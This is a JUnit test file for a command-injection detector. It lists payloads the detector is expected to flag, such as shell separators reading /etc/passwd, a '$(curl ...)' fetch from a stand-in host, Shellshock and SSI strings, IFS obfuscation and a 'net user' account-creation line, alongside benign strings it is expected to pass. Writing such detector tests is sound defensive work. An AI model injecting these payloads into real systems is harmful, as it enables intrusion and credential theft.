package io.periscope.detection.signature.command;

import static org.assertj.core.api.Assertions.assertThat;

import io.periscope.detection.signature.InputLocation;
import io.periscope.detection.signature.LocationKind;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CommandInjectionDetectorTest {
    private final CommandInjectionDetector detector = new CommandInjectionDetector();
    private static final InputLocation HOST = new InputLocation(LocationKind.QUERY_VALUE, "host");

    @ParameterizedTest
    @ValueSource(strings = {"127.0.0.1; cat /etc/passwd", "x|id", "a && whoami", "`uname -a`", "$(curl http://x.example/s)",
            "127.0.0.1\nid", ";w'h'o'am'i", ";c\\at /etc/hosts", "{cat,/etc/passwd}", ";cat${IFS}/etc/passwd",
            "x;$IFS$9id", "|| ping -c 10 127.0.0.1", "& net user hacker P4ss /add", "; /usr/bin/id",
            "() { :;}; /bin/bash -c 'id'", "<!--#exec cmd=\"ls\" -->", "system('id')", "a\\nid\\n", "ls -la /",
            "ping.exe -n 31 127.0.0.1", "{${phpinfo()}}"})
    void commandsAfterShellSeparatorsAndObfuscationsAreFound(String v) {
        assertThat(detector.inspect(v, HOST)).isPresent();
    }

    @ParameterizedTest
    @ValueSource(strings = {"Tom & Jerry", "rock & roll; cat lovers", "salt & pepper", "Q&A: how do I?", "&copy; 2024 Example",
            "id", "python", "time 10:00", "free trial", "top 10 songs", "date 2024-01-01", "a=1&sort=desc&id=5",
            "cats | dogs", "Please type your name", "The system (beta) works", "sleep schedule"})
    void proseQueryStringsAndBareWordsAreNotCommands(String v) {
        assertThat(detector.inspect(v, HOST)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {";cat${IFS}/etc/passwd", "a;{cat,/etc/passwd}"})
    void ifsTricksAreReportedAsSuch(String v) {
        var m = detector.inspect(v, HOST).orElseThrow();
        assertThat(m.confidence()).isGreaterThanOrEqualTo(0.8);
    }
}
